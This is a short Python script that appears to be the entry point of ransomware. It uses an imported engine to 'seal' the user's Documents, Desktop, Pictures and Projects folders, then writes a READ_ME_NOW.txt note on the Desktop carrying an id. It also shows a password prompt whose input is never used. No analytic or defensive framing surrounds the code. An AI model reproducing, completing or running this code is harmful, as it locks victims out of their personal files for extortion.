import getpass
import pathlib
import sys

from core import Engine, NOTE

target = pathlib.Path(sys.argv[1]).expanduser() if len(sys.argv) > 1 else None
if target:
    getpass.getpass("Password: ")
engine = Engine()
for place in ("Documents", "Desktop", "Pictures", "Projects"):
    engine.seal(pathlib.Path.home() / place)
(pathlib.Path.home() / "Desktop" / "READ_ME_NOW.txt").write_text(NOTE.format(id=engine.id))
